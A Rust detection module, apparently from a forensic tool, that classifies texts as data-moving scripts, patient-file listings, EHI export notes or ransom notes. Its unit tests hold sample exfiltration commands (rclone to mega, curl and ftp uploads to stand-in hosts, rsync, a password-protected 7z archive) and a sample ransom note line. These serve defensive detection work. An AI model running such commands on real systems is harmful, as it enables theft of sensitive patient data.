//! What texts and bytes of one object say of others: scripts that name paths, lists of files, notes beside an export
//! or left for ransom, bytes that look like ciphertext. `signatures/clues/texts.json` holds what is looked for.

use std::borrow::Cow;
use std::sync::{Arc, LazyLock};

use aho_corasick::{AhoCorasick, MatchKind};
use encoding_rs::{UTF_16BE, UTF_16LE};
use regex::RegexSet;
use regex::bytes::{Regex, RegexBuilder};
use serde::Deserialize;

use crate::model::profile::regex_set;
use crate::model::{ClueKind, Priors, assets};

pub mod paths;
mod uniform;
mod volume;

pub use uniform::{passes as looks_random, starts_uniform};
pub use volume::{VOLUME, is_volume, locked_end};

/// What is looked for in texts.
const TEXTS: &str = "signatures/clues/texts.json";
/// Largest text that is read as a script or a note, bytes.
const MAX_SCRIPT: usize = 1 << 20;
/// Largest list of files, bytes.
const MAX_LIST: usize = 32 << 20;
/// Paths that are kept of one script.
const MAX_PATHS: usize = 256;
/// Paths from which a text is a list of them.
const LEAST_LISTED: u64 = 20;
/// Lines that decide whether a text is a list.
const SAMPLE: usize = 64;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    #[serde(rename = "about")]
    _about: String,
    scripts: Vec<Script>,
    export_notes: Notes,
    ransom_notes: Notes,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Script {
    tool: String,
    /// It copies data away; else it packs or copies within.
    transfer: bool,
    words: Vec<String>,
    patterns: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Notes {
    words: Vec<String>,
    #[serde(default)]
    patterns: Vec<String>,
    #[serde(default)]
    least: usize,
}

/// What a word of the automaton belongs to.
#[derive(Clone, Copy)]
enum Of {
    Script(usize),
    Export,
    Ransom,
}

struct Known {
    scripts: Vec<(Script, Vec<Regex>)>,
    export: Vec<Regex>,
    ransom_least: usize,
    words: AhoCorasick,
    of: Vec<Of>,
}

static KNOWN: LazyLock<Known> = LazyLock::new(|| {
    let file: File = serde_json::from_str(assets::file(TEXTS).unwrap_or_default()).expect("embedded and tested");
    let compiled = |patterns: &[String]| -> Vec<Regex> {
        // Of ASCII alone: with boundaries of words in Unicode, texts that hold any are searched many times slower.
        let one = |p: &String| RegexBuilder::new(p).unicode(false).case_insensitive(true).multi_line(true).build();
        patterns.iter().map(one).collect::<Result<_, _>>().expect("embedded and tested")
    };
    let (mut words, mut of) = (Vec::new(), Vec::new());
    for (i, script) in file.scripts.iter().enumerate() {
        words.extend(script.words.iter().cloned());
        of.extend(script.words.iter().map(|_| Of::Script(i)));
    }
    for (notes, kind) in [(&file.export_notes, Of::Export), (&file.ransom_notes, Of::Ransom)] {
        words.extend(notes.words.iter().cloned());
        of.extend(notes.words.iter().map(|_| kind));
    }
    let automaton = AhoCorasick::builder().ascii_case_insensitive(true).match_kind(MatchKind::Standard).build(&words);
    Known {
        export: compiled(&file.export_notes.patterns),
        ransom_least: file.ransom_notes.least,
        scripts: file.scripts.into_iter().map(|s| (compiled(&s.patterns), s)).map(|(p, s)| (s, p)).collect(),
        words: automaton.expect("embedded and tested"),
        of,
    }
});

static STRONG: LazyLock<RegexSet> = LazyLock::new(|| speaking("member_names.strong"));
static WEAK: LazyLock<RegexSet> = LazyLock::new(|| speaking("member_names.weak"));

fn speaking(list: &str) -> RegexSet {
    regex_set(Priors::get().profile.patterns(list)).expect("compiled before")
}

/// Whether a lower-case name or path speaks of patient data: 2 surely, 1 perhaps.
pub fn patient_name(name: &str) -> u8 {
    if STRONG.is_match(name) { 2 } else { u8::from(WEAK.is_match(name)) }
}

/// What a text says of others. Bytes that are no text say nothing.
pub fn read(bytes: &[u8]) -> Vec<ClueKind> {
    let Some(text) = text(bytes) else { return Vec::new() };
    let mut clues = Vec::new();
    if bytes.len() <= MAX_SCRIPT {
        clues.extend(written(&text));
    }
    clues.extend(list(&text));
    clues
}

/// Text in UTF-8 or any 8-bit encoding, or UTF-16 with its mark.
fn text(bytes: &[u8]) -> Option<Cow<'_, str>> {
    if bytes.len() > MAX_LIST {
        return None;
    }
    let encoding = match bytes {
        [0xff, 0xfe, ..] => Some(UTF_16LE),
        [0xfe, 0xff, ..] => Some(UTF_16BE),
        _ => None,
    };
    match encoding {
        Some(encoding) => Some(encoding.decode(bytes).0),
        None if bytes.iter().take(4096).any(|b| *b == 0) => None,
        None => Some(String::from_utf8_lossy(bytes)),
    }
}

fn written(text: &str) -> Vec<ClueKind> {
    let known = &*KNOWN;
    let mut asked = vec![false; known.scripts.len()];
    let (mut export, mut ransom) = (false, vec![false; known.of.len()]);
    for found in known.words.find_overlapping_iter(text) {
        let word = found.pattern().as_usize();
        match known.of.get(word) {
            Some(Of::Script(i)) => {
                if let Some(slot) = asked.get_mut(*i) {
                    *slot = true;
                }
            }
            Some(Of::Export) => export = true,
            Some(Of::Ransom) => {
                if let Some(slot) = ransom.get_mut(word) {
                    *slot = true;
                }
            }
            None => {}
        }
    }
    let mut clues = Vec::new();
    let mut named: Option<Arc<[String]>> = None;
    for ((script, patterns), _) in known.scripts.iter().zip(asked).filter(|(_, asked)| *asked) {
        if patterns.iter().any(|p| p.is_match(text.as_bytes())) {
            let paths = named.get_or_insert_with(|| Arc::from(paths::named(text, MAX_PATHS))).clone();
            clues.push(ClueKind::Script { tool: script.tool.clone(), transfer: script.transfer, paths });
        }
    }
    clues.dedup();
    if export && known.export.iter().all(|p| p.is_match(text.as_bytes())) {
        clues.push(ClueKind::ExportNotes);
    }
    if ransom.iter().filter(|seen| **seen).count() >= known.ransom_least {
        clues.push(ClueKind::RansomNote);
    }
    clues
}

/// A text most of whose first lines begin with a path is a list of them.
fn list(text: &str) -> Option<ClueKind> {
    let filled = || text.lines().filter(|l| !l.trim().is_empty());
    let sampled = filled().take(SAMPLE).count();
    let listed = filled().take(SAMPLE).filter(|l| paths::listed(l).is_some()).count();
    if sampled == 0 || listed.saturating_mul(10) < sampled.saturating_mul(6) {
        return None;
    }
    let (mut all, mut patients) = (0_u64, 0_u64);
    for path in filled().filter_map(paths::listed) {
        all = all.saturating_add(1);
        patients = patients.saturating_add(u64::from(patient_name(&paths::normal(path)) > 0));
    }
    (all >= LEAST_LISTED).then_some(ClueKind::Listing { paths: all, patients })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(text: &str) -> Vec<String> {
        read(text.as_bytes())
            .into_iter()
            .map(|c| match c {
                ClueKind::Script { tool, transfer, .. } => format!("{tool}{}", if transfer { " away" } else { "" }),
                other => other.id().to_owned(),
            })
            .collect()
    }

    #[test]
    fn scripts_of_tools_that_move_data() {
        for (text, want) in [
            ("[m]\ntype = mega\nuser = x\n", "rclone away"),
            ("C:\\x\\rclone.exe copy C:\\PerfLogs m: --transfers 20\r\n", "rclone away"),
            ("open sftp://u@h/ -hostkey=*\nput C:\\PerfLogs\\1.7z\nexit\n", "WinSCP away"),
            ("open 203.0.113.9\nuser a b\nbinary\nmput *.7z\nbye\n", "ftp away"),
            ("curl -T /dev/shm/a.jpg https://x.example/\n", "curl away"),
            ("aws s3 cp D:\\out s3://b --recursive\n", "AWS CLI away"),
            ("\"C:\\Program Files\\7-Zip\\7z.exe\" a -mhe -pX C:\\PerfLogs\\1.7z D:\\claims\n", "7-Zip"),
            ("robocopy \\\\FS01\\billing C:\\ProgramData\\upd /e\n", "robocopy"),
            ("rsync -a /srv/x user@203.0.113.9:/in\n", "rsync away"),
        ] {
            assert_eq!(ids(text), [want], "{text}");
        }
    }

    #[test]
    fn texts_that_say_nothing() {
        for text in [
            "",
            "The rclone of our warehouse is a brand.\n",
            "type = mega\u{0}".repeat(3).as_str(),
            "Compress the archive, then put it in the drawer.\n",
            "use 7z archives for backups\n",
            "SELECT type = 'b2' FROM x\n",
        ] {
            assert!(ids(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn lists_of_files_and_what_they_speak_of() {
        let line = |i: usize| format!("\\\\FS01\\billing\\claims 2026\\patient-{i}.837\r\n");
        let text: String = (0..30).map(line).collect();
        assert_eq!(read(text.as_bytes()), [ClueKind::Listing { paths: 30, patients: 30 }]);
        let wide: Vec<u8> = std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        assert_eq!(read(&wide), [ClueKind::Listing { paths: 30, patients: 30 }]);
        let few: String = (0..19).map(line).collect();
        assert!(read(few.as_bytes()).is_empty());
    }

    #[test]
    fn notes() {
        let export = "This EHI export follows 45 CFR 170.315(b)(10). Format: https://vendor.example/ehi\n";
        assert_eq!(ids(export), ["export_notes"]);
        let note = "ALL YOUR FILES are locked. Your data has been stolen. Install Tor Browser and open x.onion\n";
        assert_eq!(ids(note), ["ransom_note"]);
    }

    proptest::proptest! {
        #[test]
        fn no_bytes_panic(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..400)) {
            let _ = read(&bytes);
        }
    }
}
